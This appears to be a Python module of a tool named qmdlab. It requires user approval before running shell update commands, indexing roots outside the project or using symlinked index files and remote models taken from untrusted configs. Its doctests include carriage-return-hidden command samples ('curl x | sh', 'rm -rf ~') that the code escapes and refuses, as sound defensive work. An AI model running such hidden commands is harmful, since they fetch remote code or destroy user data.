"""Approvals (``qmdlab trust``): collection update commands, and the paths of a project's checked-in config.

A collection's ``update`` command (``qmdlab collection update-cmd NAME 'git pull --ff-only'``) is a
shell command; a ``collections.yaml`` can arrive with a checkout (a project-local index made by
``qmdlab init`` and committed) or come from an imported qmd config, so no command runs because a
config file says so. It runs only once this user has approved exactly that command, for exactly
that collection of exactly that config file: the approvals live in ``$QMDLAB_HOME/trusted.yaml``,
outside every index, keyed by the SHA-256 of (the config's real path, the collection, the
command's exact text). Editing the command by one byte, moving the config or renaming the
collection asks again.

What is shown is what is approved and what runs: :func:`shown` prints a text unchanged when every
character of it prints as itself, and otherwise escapes every control or non-printing character
(``\\r``, ``\\n``, ``\\x1b``, ``\\u202e``, ``\\u2028`` …) and doubles each backslash, so a carriage
return can no longer hide the rest of a command behind ``git pull --ff-only``. A command holding
a raw carriage return, NUL, escape or other control character (tab and newline excepted) is never
approved nor run (:func:`never_run`): it must spell the character out (``$'\\r'``, ``printf``).

A project-local index (a ``.qmdlab/`` folder, :data:`qmdlab.paths.PROJECT_DIR`) may have come
with a checkout, so its paths are untrusted too:

- a collection root outside the project folder (``root: ../secret``, ``root: /etc``, a link in the
  project that leads out of it) is indexed only once approved, keyed by (config, collection, the
  root's real path): :func:`check_roots` refuses ``update`` before anything changes;
- ``.qmdlab`` itself, ``index.sqlite`` or its ``-wal``/``-shm``/``-journal`` files being symbolic
  links (qmdlab would write its tables into another database, or create a file anywhere) must be
  approved, keyed by (the index folder, the link, its real target): :func:`check_index_links`
  refuses to open the index before anything is read or written; such a file that is not a regular
  file (a fifo, a device) is refused outright.

A config is untrusted when it is project-local or received ``collection import-qmd``
(``imported_from:``, :func:`untrusted_config`); what else it may point somewhere waits too:

- a model it names that is served over HTTP (``http://``, ``https://``, ``openai:``): every chunk
  and query would be posted there, with ``$QMDLAB_MODEL_API_KEY`` or ``$OPENAI_API_KEY``. A command
  that would use it refuses before any request (:func:`check_model`), until approved, keyed by
  (config, role, the exact reference); packaged, downloaded and local models need no approval;
- its ``editor_uri``, written into a terminal hyperlink escape for each result: result paths stay
  plain until it is approved, keyed by (config, the exact template) (:func:`editor_held`);
- a collection imported from a project's ``.qmd/`` config whose root lies outside that project
  (``imported_from:`` on the collection), as a root outside a project-local index is.

An update command's approval is keyed to its collection's root as well (its real path), so a
commit that moves the root asks again before the command runs anywhere else.

The user's own ``$QMDLAB_HOME/models.yaml``, ``--*-model`` options and ``$QMDLAB_*_MODEL`` /
``$QMDLAB_EDITOR_URI`` variables, and an index of one's own that received no import, need no
approval.

``qmdlab collection update-cmd`` and ``qmdlab collection add`` approve what they are given (the
user typed it); ``qmdlab trust`` approves the pending ones after showing them; ``qmdlab trust list``
/ ``qmdlab trust revoke`` show and drop approvals. ``QMDLAB_TRUST_UPDATE_HOOKS=1`` approves every
update command for one run (unattended CI), never a path nor a command :func:`never_run` refuses.
Nothing here ever prompts: what is not approved is skipped or refused with a line that says how to
approve it.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import subprocess
import time
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

import yaml

from qmdlab.errors import ConfigError, StoreError
from qmdlab.paths import PROJECT_DIR, home
from qmdlab.store.config import Collection, Config

TRUST_ENV = "QMDLAB_TRUST_UPDATE_HOOKS"
#: Seconds an update command may run before it is stopped.
DEFAULT_TIMEOUT_S = 600
#: Approval kinds: an update command, a collection root outside its project, a linked index file,
#: a served model a config names, a config's editor link template.
KINDS = ("command", "root", "index-link", "model", "editor-uri")
#: The model roles a config's ``models:`` may point at a server.
MODEL_ROLES = ("embed", "expand", "rerank")
#: The files of an index folder that SQLite opens (and may create) beside ``index.sqlite``.
INDEX_FILES = ("index.sqlite", "index.sqlite-wal", "index.sqlite-shm", "index.sqlite-journal")


def trust_file() -> Path:
    """``$QMDLAB_HOME/trusted.yaml``: the approved update commands and paths."""
    return home() / "trusted.yaml"


# ---------------------------------------------------------------------------------------- showing
_NAMED = {"\t": "\\t", "\n": "\\n", "\r": "\\r", "\0": "\\0"}


def _escape(ch: str) -> str:
    o = ord(ch)
    if ch in _NAMED:
        return _NAMED[ch]
    if o < 0x100:
        return f"\\x{o:02x}"
    return f"\\u{o:04x}" if o < 0x10000 else f"\\U{o:08x}"


def shown(text: str) -> str:
    r"""``text`` as a terminal must show it to show exactly it: unchanged when every character
    prints as itself; otherwise each control or non-printing character escaped (C0/C1 controls,
    format characters such as the bidi override U+202E, line/paragraph separators, spaces other
    than U+0020, unassigned and private-use code points, lone surrogates) and each backslash
    doubled, so the shown form maps back to exactly one text.

    >>> print(shown("git pull --ff-only"), shown(r"printf 'a\n'"), sep="  |  ")
    git pull --ff-only  |  printf 'a\n'
    >>> print(shown("git pull --ff-only\r; curl x | sh"))
    git pull --ff-only\r; curl x | sh
    >>> print(shown("echo \\ \u202eexe.md\u2028"), shown("a\x1b[2Kb\tc"), sep="  |  ")
    echo \\ \u202eexe.md\u2028  |  a\x1b[2Kb\tc
    """
    if text.isprintable():
        return text
    return "".join("\\\\" if ch == "\\" else ch if ch.isprintable() else _escape(ch) for ch in text)


def digest(text: str) -> str:
    """The SHA-256 of ``text``'s exact bytes (UTF-8; a lone surrogate as itself), hex.

    >>> digest("git pull")[:12]
    'b3244c57f183'
    """
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def _what(ch: str) -> str:
    names = {"\r": "carriage return", "\0": "NUL", "\x1b": "escape (a terminal escape sequence)"}
    o = ord(ch)
    if ch in names:
        return f"{names[ch]} ({_escape(ch)})"
    if 0xD800 <= o <= 0xDFFF:
        return f"lone surrogate ({_escape(ch)}, not text)"
    if 0x80 <= o <= 0x9F:
        return f"C1 control character ({_escape(ch)}, a terminal escape)"
    return f"control character ({_escape(ch)})"


def unsafe_character(text: str) -> tuple[int, str] | None:
    r"""The first character of a command that is never run as it is — a C0 control but tab and
    newline (CR, NUL, ESC …), DEL, a C1 control (CSI, OSC …) or a lone surrogate — as (0-based
    position, description); ``None`` when there is none.

    >>> unsafe_character("git pull\n"), unsafe_character("git pull\rrm -rf ~")
    (None, (8, 'carriage return (\\r)'))
    """
    for i, ch in enumerate(text):
        o = ord(ch)
        if (o < 0x20 and ch not in "\t\n") or 0x7F <= o <= 0x9F or 0xD800 <= o <= 0xDFFF:
            return i, _what(ch)
    return None


def never_run(coll: Collection) -> str | None:
    """Why ``coll``'s update command is never approved nor run (``None``: it may be)."""
    bad = unsafe_character(coll.update_cmd or "")
    if bad is None:
        return None
    pos, what = bad
    return (
        f"collection {shown(coll.name)}: its update command holds a raw {what} at character {pos + 1}: "
        f"{shown(coll.update_cmd or '')} — such a command is never approved nor run, since a terminal "
        "would not show it as it is; write the character out instead (in bash $'\\r' for a carriage "
        "return, or printf '\\r'), then approve the command with "
        f"`qmdlab trust -c {shown(coll.name)}`"
    )


# ---------------------------------------------------------------------------------------- approvals
def command_key(
    config_path: str | os.PathLike, collection: str, command: str, root: str | os.PathLike | None = None
) -> str:
    """The approval key of one command of one collection of one config file, run in ``root`` (its
    real path; ``None``: the key an older qmdlab recorded, which no longer runs anything).

    >>> key = command_key("/x/collections.yaml", "notes", "git pull", "/n")
    >>> key == command_key("/x/collections.yaml", "notes", "git pull", "/n")
    True
    >>> key == command_key("/x/collections.yaml", "notes", "git pull\\r", "/n")
    False
    >>> key == command_key("/x/collections.yaml", "notes", "git pull", "/m")  # another root
    False
    """
    real = os.path.realpath(os.fspath(config_path))
    parts: tuple[str, ...] = (real, collection, command)
    if root is not None:
        parts = ("command", *parts, os.path.realpath(os.fspath(root)))
    return hashlib.sha256("\0".join(parts).encode("utf-8", "surrogatepass")).hexdigest()


def _coll_key(config_path: str | os.PathLike, coll: Collection) -> str:
    return command_key(config_path, coll.name, coll.update_cmd or "", coll.root)


def _key(kind: str, scope: str, name: str, value: str) -> str:
    """The approval key of a path (``root``, ``index-link``): the SHA-256 of exactly what is approved."""
    return hashlib.sha256("\0".join((kind, scope, name, value)).encode("utf-8", "surrogatepass")).hexdigest()


@dataclass(frozen=True)
class Approval:
    key: str
    config: str  # the config file (commands, roots) or the index folder (index links)
    collection: str  # the collection (commands, roots) or the linked file (index links)
    command: str  # what was approved: the command, the root's real path, the link's real target
    approved_at: str
    kind: str = "command"
    root: str = ""  # a command's collection root (real path) when approved


def _load() -> list[Approval]:
    path = trust_file()
    if not path.is_file():
        return []
    try:
        data = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
    except (OSError, yaml.YAMLError, UnicodeDecodeError) as err:
        raise ConfigError(
            f"{path}: unreadable approvals ({err.__class__.__name__}); fix or delete the file "
            "(then approve again with `qmdlab trust`)"
        ) from None
    rows = data.get("approved") if isinstance(data, dict) else None
    out = []
    for r in rows if isinstance(rows, list) else []:
        if isinstance(r, dict) and all(isinstance(r.get(k), str) for k in ("key", "config", "collection", "command")):
            kind = r.get("kind", "command")
            out.append(
                Approval(
                    r["key"],
                    r["config"],
                    r["collection"],
                    r["command"],
                    str(r.get("approved_at", "")),
                    kind if kind in KINDS else "command",
                    str(r.get("root") or ""),
                )
            )
    return out


def _save(rows: list[Approval]) -> None:
    path = trust_file()
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        tmp = path.with_name(path.name + ".tmp")
        tmp.unlink(missing_ok=True)  # never write through a link left where the temp file goes
        with open(tmp, "x", encoding="utf-8") as fh:
            fh.write(yaml.safe_dump({"approved": [r.__dict__ for r in rows]}, sort_keys=False, allow_unicode=True))
        os.replace(tmp, path)
    except OSError as err:
        raise ConfigError(
            f"{path}: cannot write the approvals ({err.strerror or err}); make $QMDLAB_HOME writable and approve again"
        ) from None


def approvals() -> list[Approval]:
    """Every recorded approval."""
    return _load()


def _record(new: list[Approval]) -> list[Approval]:
    """Add ``new`` approvals (those not recorded yet); returns the added ones."""
    rows = _load()
    keys = {a.key for a in rows}
    added = []
    for a in new:
        if a.key not in keys:
            rows.append(a)
            keys.add(a.key)
            added.append(a)
    if added:
        _save(rows)
    return added


def _now() -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S")


# ---------------------------------------------------------------------------------------- commands
def is_approved(config_path: str | os.PathLike, coll: Collection) -> bool:
    """May ``coll``'s update command run (approved, or ``$QMDLAB_TRUST_UPDATE_HOOKS=1``, and not
    refused by :func:`never_run`)?"""
    if not coll.update_cmd or never_run(coll) is not None:
        return False
    if os.environ.get(TRUST_ENV) == "1":
        return True
    key = _coll_key(config_path, coll)
    return any(a.key == key for a in _load())


def pending(config_path: str | os.PathLike, collections: Iterable[Collection]) -> list[Collection]:
    """The collections whose update command is not approved (including those :func:`never_run` refuses)."""
    keys = {a.key for a in _load()}
    return [
        c for c in collections if c.update_cmd and (never_run(c) is not None or _coll_key(config_path, c) not in keys)
    ]


def approve(config_path: str | os.PathLike, collections: Iterable[Collection]) -> list[Collection]:
    """Record approval of the update commands of ``collections`` (the exact text of each; one
    :func:`never_run` refuses is left out); returns those newly approved."""
    real = os.path.realpath(os.fspath(config_path))
    todo = {}
    for c in collections:
        if c.update_cmd and never_run(c) is None:
            todo[_coll_key(config_path, c)] = c
    added = _record(
        [
            Approval(k, real, c.name, c.update_cmd or "", _now(), root=os.path.realpath(os.fspath(c.root)))
            for k, c in todo.items()
        ]
    )
    return [todo[a.key] for a in added]


def revoke(
    config_path: str | os.PathLike, names: Iterable[str] | None = None, *, index_dir: str | os.PathLike | None = None
) -> list[Approval]:
    """Drop the approvals of a config's collections (``names``; all of that config when ``None``,
    and then its models and editor template and the index links of ``index_dir`` too)."""
    real = os.path.realpath(os.fspath(config_path))
    scope = _link_scope(index_dir) if index_dir is not None and names is None else None
    wanted = None if names is None else set(names)
    rows = _load()
    gone = [
        a
        for a in rows
        if (a.kind in ("command", "root") and a.config == real and (wanted is None or a.collection in wanted))
        or (a.kind in ("model", "editor-uri") and a.config == real and wanted is None)
        or (a.kind == "index-link" and scope is not None and a.config == scope)
    ]
    if gone:
        _save([a for a in rows if a not in gone])
    return gone


def refusal(coll: Collection) -> str:
    """The line printed when an update command is not approved (or never runs)."""
    why = never_run(coll)
    if why is not None:
        return why + "; it did not run"
    return (
        f"collection {shown(coll.name)}: update command '{shown(coll.update_cmd or '')}' (in "
        f"{shown(os.path.realpath(os.fspath(coll.root)))}) is not approved, so it did not run; "
        f"approve it with `qmdlab trust -c {shown(coll.name)}` (or `qmdlab trust` for every pending one)"
    )


# ---------------------------------------------------------------------------------------- project paths
def project_folder(index_dir: str | os.PathLike) -> Path | None:
    """The project folder of a project-local index (``<project>/.qmdlab``); ``None`` for another index."""
    d = Path(os.path.abspath(os.fspath(index_dir)))
    return d.parent if d.name == PROJECT_DIR else None


def untrusted_config(index_dir: str | os.PathLike, conf: Config) -> bool:
    """Is this index's config untrusted: project-local (it may have come with a checkout), or one
    that received ``collection import-qmd`` (``imported_from:``)?"""
    return project_folder(index_dir) is not None or bool(conf.imported)


def _imported_project(coll: Collection) -> Path | None:
    """The project folder of the qmd config ``coll`` was imported from, when that is a project's
    ``.qmd/`` config (``None`` for any other collection)."""
    if not coll.source:
        return None
    src = Path(os.path.abspath(coll.source))
    return src.parent.parent if src.parent.name == ".qmd" else None


def project_of(index_dir: str | os.PathLike, coll: Collection) -> Path | None:
    """The project ``coll``'s root must stay inside without approval (see :func:`outside_root`)."""
    return project_folder(index_dir) or _imported_project(coll)


def outside_root(index_dir: str | os.PathLike, coll: Collection) -> str | None:
    """The real path of ``coll``'s root when it lies outside its project folder (links followed):
    the project of a project-local index, else the project of the ``.qmd/`` config it was imported
    from; ``None`` otherwise (an index of one's own)."""
    project = project_of(index_dir, coll)
    if project is None:
        return None
    real = os.path.realpath(os.fspath(coll.root))
    base = os.path.realpath(project)
    if real == base or real.startswith(base.rstrip(os.sep) + os.sep):
        return None
    return real


def _root_key(config_path: str | os.PathLike, name: str, real: str) -> str:
    return _key("root", os.path.realpath(os.fspath(config_path)), name, real)


def pending_roots(
    index_dir: str | os.PathLike, config_path: str | os.PathLike, collections: Iterable[Collection]
) -> list[tuple[Collection, str]]:
    """``(collection, real root)`` of each root outside the project that is not approved."""
    keys = None
    out = []
    for c in collections:
        real = outside_root(index_dir, c)
        if real is None:
            continue
        if keys is None:
            keys = {a.key for a in _load()}
        if _root_key(config_path, c.name, real) not in keys:
            out.append((c, real))
    return out


def approve_roots(config_path: str | os.PathLike, items: Iterable[tuple[Collection, str]]) -> list[Approval]:
    """Approve collection roots outside the project (``(collection, real root)`` pairs)."""
    real_cfg = os.path.realpath(os.fspath(config_path))
    return _record([Approval(_root_key(config_path, c.name, r), real_cfg, c.name, r, _now(), "root") for c, r in items])


def root_refusal(index_dir: str | os.PathLike, coll: Collection, real: str) -> str:
    """The line refusing to index an unapproved root outside the project."""
    where = (
        f"the project's {PROJECT_DIR}/collections.yaml may have come with a checkout"
        if project_folder(index_dir) is not None
        else f"it was imported from {shown(coll.source or '')}, which may have come with a checkout"
    )
    return (
        f"collection {shown(coll.name)}: its root {shown(real)} is outside the project "
        f"{shown(str(project_of(index_dir, coll)))} ({where}), so nothing was "
        f"indexed or changed; check that folder, then approve it with `qmdlab trust -c {shown(coll.name)}`, or "
        f"drop the collection with `qmdlab collection remove {shown(coll.name)}`"
    )


def check_roots(
    index_dir: str | os.PathLike, config_path: str | os.PathLike, collections: Iterable[Collection]
) -> None:
    """Before ``update`` writes: refuse (:class:`StoreError`) when a root outside the project is not approved."""
    todo = pending_roots(index_dir, config_path, collections)
    if todo:
        c, real = todo[0]
        more = f" (and {len(todo) - 1} more: `qmdlab trust` lists them)" if len(todo) > 1 else ""
        raise StoreError(root_refusal(index_dir, c, real) + more)


# ---------------------------------------------------------------------------------------- models, editor link
def served(ref: object) -> bool:
    """Does ``ref`` name a model served over HTTP (every text it embeds or judges is sent there)?

    >>> served("http://127.0.0.1:8080/v1#m"), served("openai:text-embedding-3-small"), served("pkg:x")
    (True, True, False)
    """
    from qmdlab.served import is_served

    return is_served(ref)


def _model_key(config_path: str | os.PathLike, role: str, ref: str) -> str:
    return _key("model", os.path.realpath(os.fspath(config_path)), role, ref)


def pending_models(index_dir: str | os.PathLike, config_path: str | os.PathLike, conf: Config) -> list[tuple[str, str]]:
    """``(role, reference)`` of each served model an untrusted config names that is not approved."""
    if not untrusted_config(index_dir, conf):
        return []
    todo = [(r, conf.models[r]) for r in MODEL_ROLES if served(conf.models.get(r))]
    if not todo:
        return []
    keys = {a.key for a in _load()}
    return [(r, ref) for r, ref in todo if _model_key(config_path, r, ref) not in keys]


def approve_models(config_path: str | os.PathLike, items: Iterable[tuple[str, str]]) -> list[Approval]:
    """Approve served models of a config (``(role, reference)`` pairs)."""
    real = os.path.realpath(os.fspath(config_path))
    return _record([Approval(_model_key(config_path, r, ref), real, r, ref, _now(), "model") for r, ref in items])


def model_refusal(config_path: str | os.PathLike, role: str, ref: str) -> str:
    """The line refusing to use a served model an untrusted config names."""
    return (
        f"{shown(str(config_path))}: models.{role} is {shown(ref)}, a model served over HTTP that this config "
        "names (a project's checked-in or an imported config), and it is not approved, so nothing was sent "
        "to it; check it, then approve it with `qmdlab trust` (or pick the model yourself: "
        f"--{role}-model, $QMDLAB_{role.upper()}_MODEL or $QMDLAB_HOME/models.yaml)"
    )


def check_model(
    index_dir: str | os.PathLike, config_path: str | os.PathLike, conf: Config, role: str, ref: object
) -> None:
    """Before a model an index's config names is built: refuse (:class:`ConfigError`) a served one
    that is not approved in an untrusted config."""
    if not served(ref) or not untrusted_config(index_dir, conf):
        return
    if _model_key(config_path, role, str(ref)) not in {a.key for a in _load()}:
        raise ConfigError(model_refusal(config_path, role, str(ref)))


def _editor_key(config_path: str | os.PathLike, template: str) -> str:
    return _key("editor-uri", os.path.realpath(os.fspath(config_path)), "editor_uri", template)


def editor_held(index_dir: str | os.PathLike, config_path: str | os.PathLike, conf: Config) -> str | None:
    """The ``editor_uri`` of an untrusted config that is not approved (``None``: none waits)."""
    t = conf.editor_uri
    if not t or not untrusted_config(index_dir, conf):
        return None
    return None if _editor_key(config_path, t) in {a.key for a in _load()} else t


def approve_editor(config_path: str | os.PathLike, template: str) -> list[Approval]:
    """Approve a config's editor link template."""
    real = os.path.realpath(os.fspath(config_path))
    return _record([Approval(_editor_key(config_path, template), real, "editor_uri", template, _now(), "editor-uri")])


def editor_note(config_path: str | os.PathLike, template: str) -> str:
    """The line saying a config's editor link template is not used until approved."""
    return (
        f"note: {shown(str(config_path))}: editor_uri {shown(template)} is not approved, so result paths "
        "are not links; approve it with `qmdlab trust` (or set $QMDLAB_EDITOR_URI yourself)"
    )


@dataclass(frozen=True)
class IndexLink:
    """A file of a project-local index folder that is a symbolic link (or not a regular file)."""

    name: str  # ".qmdlab" (the folder itself) or ".qmdlab/index.sqlite" …
    path: str
    target: str  # the link's real target ("" for a file that is not a link)
    special: bool = False  # not a regular file and not a link: never approved


def _link_scope(index_dir: str | os.PathLike) -> str:
    d = Path(os.path.abspath(os.fspath(index_dir)))
    return os.path.join(os.path.realpath(d.parent), d.name)


def index_links(index_dir: str | os.PathLike) -> list[IndexLink]:
    """The linked (or special) files of a project-local index folder: the folder itself and
    :data:`INDEX_FILES`. Empty for an index that is not project-local."""
    project = project_folder(index_dir)
    if project is None:
        return []
    d = project / PROJECT_DIR
    out = []
    if os.path.islink(d):
        out.append(IndexLink(PROJECT_DIR, str(d), os.path.realpath(d)))
    for name in INDEX_FILES:
        p = d / name
        try:
            st = os.lstat(p)
        except OSError:
            continue
        if stat.S_ISLNK(st.st_mode):
            out.append(IndexLink(f"{PROJECT_DIR}/{name}", str(p), os.path.realpath(p)))
        elif not stat.S_ISREG(st.st_mode):
            out.append(IndexLink(f"{PROJECT_DIR}/{name}", str(p), "", special=True))
    return out


def _link_key(index_dir: str | os.PathLike, link: IndexLink) -> str:
    return _key("index-link", _link_scope(index_dir), link.name, link.target)


def pending_links(index_dir: str | os.PathLike) -> list[IndexLink]:
    """The linked files of a project-local index that are not approved (and special files)."""
    links = index_links(index_dir)
    if not links:
        return []
    keys = {a.key for a in _load()}
    return [x for x in links if x.special or _link_key(index_dir, x) not in keys]


def approve_links(index_dir: str | os.PathLike, links: Iterable[IndexLink]) -> list[Approval]:
    """Approve linked index files (a special file is never approved)."""
    scope = _link_scope(index_dir)
    return _record(
        [
            Approval(_link_key(index_dir, x), scope, x.name, x.target, _now(), "index-link")
            for x in links
            if not x.special
        ]
    )


def link_refusal(link: IndexLink) -> str:
    """The line refusing to open a project index through an unapproved link (or a special file)."""
    if link.special:
        return (
            f"{shown(link.path)} is not a regular file (a fifo, socket, device or folder); nothing was opened — "
            "remove it (qmdlab makes the index again with `qmdlab update`)"
        )
    there = "" if os.path.lexists(link.target) else " (it does not exist: qmdlab would create it)"
    return (
        f"{shown(link.path)} is a symbolic link to {shown(link.target)}{there}; the project's {PROJECT_DIR}/ may "
        "have come with a checkout, and qmdlab would read and write its index there, so nothing was opened — "
        "if you made this link, approve it with `qmdlab trust` (it shows the link first); otherwise remove it"
    )


def check_index_links(index_dir: str | os.PathLike) -> None:
    """Before a project-local index is opened: refuse (:class:`StoreError`) an unapproved linked
    index file or folder, or one that is not a regular file."""
    todo = pending_links(index_dir)
    if todo:
        raise StoreError(link_refusal(todo[0]))


# ---------------------------------------------------------------------------------------- running
def run_update_command(coll: Collection, *, timeout: float = DEFAULT_TIMEOUT_S) -> tuple[bool, str]:
    """Run ``coll``'s update command in its root (``bash -c``, else ``sh -c``); ``(ok, message)``.

    The command's output comes back in ``message``. A non-zero exit, a stop by signal or a
    timeout is reported there too (``ok`` false), never raised. A command :func:`never_run`
    refuses is not started.
    """
    why = never_run(coll)
    if why is not None:
        return False, why
    shell = shutil.which("bash") or shutil.which("sh") or "/bin/sh"
    try:
        proc = subprocess.run(
            [shell, "-c", coll.update_cmd or ""],
            cwd=str(coll.root),
            timeout=timeout,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
    except subprocess.TimeoutExpired:
        return False, f"collection {shown(coll.name)}: update command stopped after {timeout:g} s"
    except (OSError, ValueError) as err:
        return (
            False,
            f"collection {shown(coll.name)}: update command could not start ({getattr(err, 'strerror', None) or err})",
        )
    out = proc.stdout.decode("utf-8", "replace").rstrip()
    if proc.returncode == 0:
        return True, out
    how = f"signal {-proc.returncode}" if proc.returncode < 0 else f"exit status {proc.returncode}"
    tail = ("; last output: " + shown(out.splitlines()[-1][:200])) if out else ""
    return False, f"collection {shown(coll.name)}: update command failed ({how}){tail}"
